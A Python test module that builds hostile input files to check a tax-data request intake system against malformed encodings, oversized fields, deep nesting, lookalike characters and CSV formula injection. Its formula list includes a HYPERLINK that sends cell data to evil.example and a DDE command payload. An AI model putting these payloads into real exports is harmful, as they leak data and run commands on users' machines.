"""The hostile-input corpus: every file is written at test time (nothing large is committed).

A request-file case is `refused` (the whole file: exit code 2 / HTTP 4xx, a message holding every
needle, nothing stored) or `accepted` (the batch is stored whole; `reasons` says which requests
are rejected at intake and why, every other request goes through the gate as usual).
A manifest case pairs a hostile manifest with a good request file.

Encodings (the rule, documented in intake/readers.py): a request file is UTF-8, with or without a
byte-order mark. UTF-16 and UTF-32 (with or without a byte-order mark), Latin-1 and Windows-1252
are refused, naming the byte, its offset and its line. Character rules for values are in
intake/characters.py.
"""

from __future__ import annotations

import codecs
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

import pyarrow as pa
import pyarrow.parquet as pq

from matchgate.columns import REQUEST_COLUMNS

HUGE = 100 * 1024 * 1024  # the "100 MB field"
HEADER = ",".join(REQUEST_COLUMNS)
PERSON = {"first_name": "Maria", "middle_name": "", "last_name": "Garcia Lopez", "suffix": "",
          "date_of_birth": "1980-02-03", "tin": "", "street": "12 Oak St", "unit": "",
          "city": "Boston", "state": "MA", "zip": "02134", "tax_periods": "2022;2023",
          "case_number": "A123456789", "order_date": "2020-01-02",
          "statutory_authority": "8 U.S.C. 1253(a)(1)",
          "reason": "Final order of removal in case A123456789; address needed to locate the "
                    "subject."}
# Formula payloads: each must come back with a leading apostrophe in every CSV written.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)",
            "\t=1+1", "\r=2+2", "=cmd|' /C calc'!A0", "\uff1dHYPERLINK(1)", " =5+5"]


def record(request_id: str, **changes: str) -> dict[str, str]:
    return {"request_id": request_id, **PERSON, **changes}


def csv_text(rows: list[dict[str, str]], newline: str = "\n") -> str:
    import csv

    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(REQUEST_COLUMNS), lineterminator=newline)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def jsonl_text(rows: list[dict[str, str]], newline: str = "\n") -> str:
    return "".join(json.dumps(r) + newline for r in rows)


GOOD = [record("R1"), record("R2", first_name="Ana", date_of_birth="1975-06-07")]


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    write: Callable[[Path], None]
    outcome: Literal["refused", "accepted"]
    needles: tuple[str, ...] = ()
    # accepted: request_id -> the intake reason it must carry (None: not rejected at intake)
    reasons: dict[str, str | None] = field(default_factory=dict)
    big: bool = False  # hundreds of megabytes on disk: the API answers 413 before parsing

    def path(self, folder: Path) -> Path:
        path = folder / self.filename
        self.write(path)
        return path


def _bytes(data: bytes) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        p.write_bytes(data)
    return write


def _text(text: str) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        p.write_bytes(text.encode("utf-8"))
    return write


def _huge_field(path: Path) -> None:
    with path.open("wb") as fh:
        fh.write((HEADER + "\n").encode())
        fh.write(b"R1,")
        chunk = b"A" * (1 << 20)
        for _ in range(HUGE // len(chunk)):
            fh.write(chunk)
        fh.write(b",,Garcia,,,,,,,,,,,,,\n")


def _huge_line(path: Path) -> None:
    with path.open("wb") as fh:
        fh.write(b'{"request_id": "R1", "first_name": "')
        chunk = b"A" * (1 << 20)
        for _ in range(HUGE // len(chunk)):
            fh.write(chunk)
        fh.write(b'"}\n')


def _parquet(columns: dict[str, pa.Array]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        pq.write_table(pa.table(columns), path)
    return write


def _strings(rows: list[dict[str, str]], *skip: str) -> dict[str, pa.Array]:
    return {c: pa.array([r[c] for r in rows], pa.string()) for c in REQUEST_COLUMNS
            if c not in skip}


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("requests.csv", csv_text(GOOD))
    return out.getvalue()


def _unclosed_quote() -> str:
    lines = csv_text([record("R1"), record("R2"), record("R3")]).splitlines()
    lines[2] = lines[2].replace("Maria", '"Maria', 1)  # opened in row 2, never closed
    return "\n".join(lines) + "\n"


def _stray_quote() -> str:
    lines = csv_text([record("R1"), record("R2"), record("R3"), record("R4")]).splitlines()
    lines[1] = lines[1].replace("Maria", '"Maria', 1)   # opened in row 1 ...
    lines[3] = lines[3].replace("Boston", 'Bos"ton', 1)  # ... closed in row 3
    return "\n".join(lines) + "\n"


LOOKALIKES = {
    "C1": record("C1", first_name="\u0420aul"),             # Cyrillic ER: shows as Paul
    "C2": record("C2", last_name="G\u0430rcia Lopez"),       # Cyrillic a in a Latin name
    "C3": record("C3", first_name="\u039cARIA"),            # Greek capital MU
    "Z1": record("Z1", first_name="Ma\u200bria"),           # zero-width space
    "Z2": record("Z2", last_name="\u202eGarcia Lopez\u202c", first_name="Mar\u00ada",
                 date_of_birth="1980-02-04"),                # right-to-left override
    "Z3": record("Z3", first_name="\uff2d\uff41\uff52\uff49\uff41", date_of_birth="1980-02-05"),
    "Z4": record("Z4", first_name="Ma\u00adria\u2066", date_of_birth="1980-02-06"),
}

REQUEST_CASES: list[Case] = [
    Case("utf8_bom_csv", "bom.csv", _bytes(codecs.BOM_UTF8 + csv_text(GOOD).encode()),
         "accepted", reasons={"R1": None, "R2": None}),
    Case("utf8_bom_jsonl", "bom.jsonl", _bytes(codecs.BOM_UTF8 + jsonl_text(GOOD).encode()),
         "accepted", reasons={"R1": None, "R2": None}),
    Case("double_bom_csv", "bom2.csv", _text("\ufeff\ufeff" + csv_text(GOOD)), "accepted",
         reasons={"R1": None, "R2": None}),
    Case("latin1_csv", "latin1.csv",
         _bytes(csv_text([record("R1"), record("R2", first_name="Mar\u00eda")]).encode("latin-1")),
         "refused", ("not UTF-8", "byte 0xed", "(line 3)")),
    Case("cp1252_csv", "cp1252.csv",
         _bytes(csv_text([record("R1", reason="\u201cFinal\u201d order of removal in case "
                                              "A123456789, address needed")]).encode("cp1252")),
         "refused", ("not UTF-8", "byte 0x93")),
    Case("utf16_bom_csv", "utf16.csv", _bytes(csv_text(GOOD).encode("utf-16")), "refused",
         ("UTF-16", "byte-order mark")),
    Case("utf16_no_bom_csv", "utf16le.csv", _bytes(csv_text(GOOD).encode("utf-16-le")),
         "refused", ("UTF-16 without a byte-order mark",)),
    Case("utf32_jsonl", "utf32.jsonl", _bytes(jsonl_text(GOOD).encode("utf-32")), "refused",
         ("UTF-32",)),
    Case("nul_byte_csv", "nul.csv", _text(csv_text([record("R1"),
                                                    record("R2", last_name="Gar\x00cia")])),
         "accepted", ("U+0000",), reasons={"R1": None, "R2": "field_control_character"}),
    Case("nul_escape_jsonl", "nul.jsonl",
         _text(jsonl_text([record("R1"), record("R2", first_name="Ana\x00")])), "accepted",
         reasons={"R1": None, "R2": "field_control_character"}),
    Case("lone_surrogate_jsonl", "surrogate.jsonl",
         _text(jsonl_text([record("R1")]) + '{"request_id": "R2", "first_name": "\\ud800"}\n'),
         "accepted", reasons={"R1": None, "R2": "field_control_character"}),
    Case("escape_sequence_csv", "escape.csv",
         _text(csv_text([record("R1", last_name="Garcia\x1b[31m"),
                         record("R2", street="12 Oak St\x07")])),
         "accepted", reasons={"R1": "field_control_character", "R2": "field_control_character"}),
    Case("field_100mb_csv", "huge.csv", _huge_field, "refused",
         ("row 1", "longer than 1,048,576 characters"), big=True),
    Case("line_100mb_jsonl", "huge.jsonl", _huge_line, "refused",
         ("line 1", "longer than 4,194,304 characters"), big=True),
    Case("long_name_csv", "long.csv", _text(csv_text([record("R1", last_name="G" * 5000),
                                                      record("R2")])),
         "accepted", reasons={"R1": "field_too_long", "R2": None}),
    Case("columns_10000_csv", "wide.csv",
         _text(HEADER + "," + ",".join(f"c{i}" for i in range(10_000 - len(REQUEST_COLUMNS)))
               + "\n" + csv_text(GOOD).split("\n", 1)[1]),
         "refused", ("unknown column 'c0'", "more")),
    Case("fields_10000_row_csv", "wide_row.csv",
         _text(csv_text(GOOD).rstrip("\n") + "," + ",".join(["x"] * 9_990) + "\n"),
         "accepted", reasons={"R1": None, "R2": "row_malformed"}),
    Case("unclosed_quote_csv", "unclosed.csv", _text(_unclosed_quote()), "refused",
         ("row 2", "quote is probably not closed")),
    Case("stray_quote_csv", "stray.csv", _text(_stray_quote()), "refused",
         ("row 1", "lines 2-4", "quote is probably not closed")),
    Case("cr_only_csv", "cr.csv", _text(csv_text([*GOOD, record("R3", first_name="Lu")], "\r")),
         "accepted", reasons={"R1": None, "R2": None, "R3": None}),
    Case("cr_only_jsonl", "cr.jsonl", _text(jsonl_text(GOOD, "\r")), "accepted",
         reasons={"R1": None, "R2": None}),
    Case("line_separator_in_jsonl_value", "u2028.jsonl",
         _text(jsonl_text([record("R1", street="12 Oak St\u2028Apt 2"), GOOD[1]])), "accepted",
         reasons={"R1": None, "R2": None}),
    Case("formula_injection_csv", "formula.csv",
         _text(csv_text([record(f"{f}#{i}", first_name=f, last_name=f"Garcia{f}", city=f)
                         for i, f in enumerate(FORMULAS)] + [record("R-plain")])),
         "accepted", reasons={"R-plain": None}),
    Case("lookalikes_and_bidi_csv", "lookalike.csv", _text(csv_text(list(LOOKALIKES.values()))),
         "accepted", reasons={"C1": "name_not_latin", "C2": "name_not_latin",
                              "C3": "name_not_latin", "Z1": None, "Z2": None, "Z3": None,
                              "Z4": None}),
    Case("nested_100000_jsonl", "nested.jsonl",
         _text(jsonl_text([record("R1")]) + "[" * 100_000 + "]" * 100_000 + "\n"), "accepted",
         reasons={"R1": None, "row-2": "row_malformed"}),
    Case("nested_object_jsonl", "nested_obj.jsonl",
         _text(jsonl_text([record("R1")]) + json.dumps(
             {"request_id": "R2", "first_name": json.loads('{"a":' * 50 + "1" + "}" * 50)})
               + "\n"),
         "accepted", reasons={"R1": None, "R2": "row_malformed"}),
    Case("number_5000_digits_jsonl", "bignum.jsonl",
         _text(jsonl_text([record("R1")]) + '{"request_id": "R2", "tin": ' + "7" * 5000 + "}\n"),
         "accepted", reasons={"R1": None, "row-2": "row_malformed"}),
    Case("parquet_wrong_types", "types.parquet", _parquet({
        **_strings(GOOD, "first_name", "tin", "zip"),
        "first_name": pa.array([{"a": 1}, {"a": 2}]),
        "tin": pa.array([True, False]),
        "zip": pa.array([b"\x00\x01", b"\x02"], pa.binary())}),
        "refused", ("column 'first_name' has type struct", "column 'tin' has type bool",
                    "column 'zip' has type binary")),
    Case("parquet_far_dates_and_ints", "dates.parquet", _parquet({
        **_strings(GOOD, "date_of_birth", "last_name"),
        "date_of_birth": pa.array([3685, 3_000_000], pa.int32()).cast(pa.date32()),
        "last_name": pa.array([12345, -1], pa.int64())}),
        "accepted", reasons={"R1": None, "R2": None}),
    Case("parquet_nul_in_string", "nul.parquet", _parquet(
        {**_strings(GOOD, "last_name"), "last_name": pa.array(["Garcia", "Gar\x00cia"])}),
        "accepted", reasons={"R1": None, "R2": "field_control_character"}),
    Case("parquet_corrupt", "corrupt.parquet", _bytes(b"PAR1" + bytes(range(256)) * 4 + b"PAR1"),
         "refused", ("not a readable Parquet file",)),
    Case("zip_archive", "requests.zip", _bytes(_zip()), "refused", ("zip",)),
    Case("zip_named_csv", "zipped.csv", _bytes(_zip()), "refused", ("not UTF-8",)),
    Case("binary_png_csv", "image.csv", _bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
         "refused", ("not UTF-8", "byte 0x89", "offset 0")),
    Case("whitespace_only_csv", "blank.csv", _text(" \n\r\n\t\n"), "refused", ("empty",)),
    Case("no_header_csv", "noheader.csv", _text(csv_text(GOOD).split("\n", 1)[1]), "refused",
         ("unknown column", "required column 'request_id' is missing")),
]


@dataclass(frozen=True)
class ManifestCase:
    name: str
    filename: str
    text: str | bytes
    outcome: Literal["refused", "accepted"]
    needles: tuple[str, ...] = ()

    def path(self, folder: Path) -> Path:
        path = folder / self.filename
        path.write_bytes(self.text if isinstance(self.text, bytes) else self.text.encode())
        return path


GOOD_MANIFEST = {"agreement_id": "IE-TAX-2025-001", "legal_basis": "6103(i)(2)",
                 "requesting_official": "A. Example, Director, Immigration enforcement agency",
                 "certification": "I certify that the information requested will be used "
                                  "solely for the enforcement of 8 U.S.C. 1253(a)(1) against "
                                  "the persons named in this batch, each of whom is subject to "
                                  "a final order of removal, and for no other purpose."}


def _manifest(**changes: object) -> str:
    return json.dumps({**GOOD_MANIFEST, **changes})


MANIFEST_CASES: list[ManifestCase] = [
    ManifestCase("manifest_nested_json", "nested.json",
                 _manifest()[:-1] + ', "court": ' + "[" * 30_000 + "]" * 30_000 + "}",
                 "refused", ("nested too deeply",)),
    ManifestCase("manifest_nested_toml", "nested.toml",
                 "agreement_id = " + "[" * 30_000 + "]" * 30_000 + "\n", "refused",
                 ("nested too deeply",)),
    ManifestCase("manifest_enormous_json", "big.json",
                 _manifest(certification="x" * 2_000_000), "refused",
                 ("at most 65,536 bytes",)),
    ManifestCase("manifest_wrong_types", "types.json",
                 _manifest(agreement_id=[1, 2], order_date="yesterday", legal_basis={"a": 1}),
                 "refused", ("agreement_id", "order_date", "legal_basis")),
    ManifestCase("manifest_nul", "nul.json", _manifest(requesting_official="J\x00E"), "refused",
                 ("requesting_official", "U+0000")),
    ManifestCase("manifest_many_unknown_keys", "keys.json",
                 _manifest(**{f"k{i}": i for i in range(2000)}), "refused",
                 ("is not a manifest field", "and 1980 more")),
    ManifestCase("manifest_long_value", "long.json", _manifest(court="C" * 5000), "refused",
                 ("court",)),
    ManifestCase("manifest_latin1_toml", "latin1.toml",
                 ('agreement_id = "IE-TAX-2025-001"\nlegal_basis = "6103(i)(2)"\n'
                  'requesting_official = "Jos\u00e9"\n').encode("latin-1"), "refused",
                 ("not UTF-8",)),
    ManifestCase("manifest_top_level_list", "list.json", "[1, 2, 3]", "refused",
                 ("not an object",)),
    ManifestCase("manifest_formula_official", "formula.json",
                 _manifest(requesting_official='=HYPERLINK("http://evil.example","x")'),
                 "accepted"),
]

ALL_NAMES = [c.name for c in REQUEST_CASES] + [c.name for c in MANIFEST_CASES]
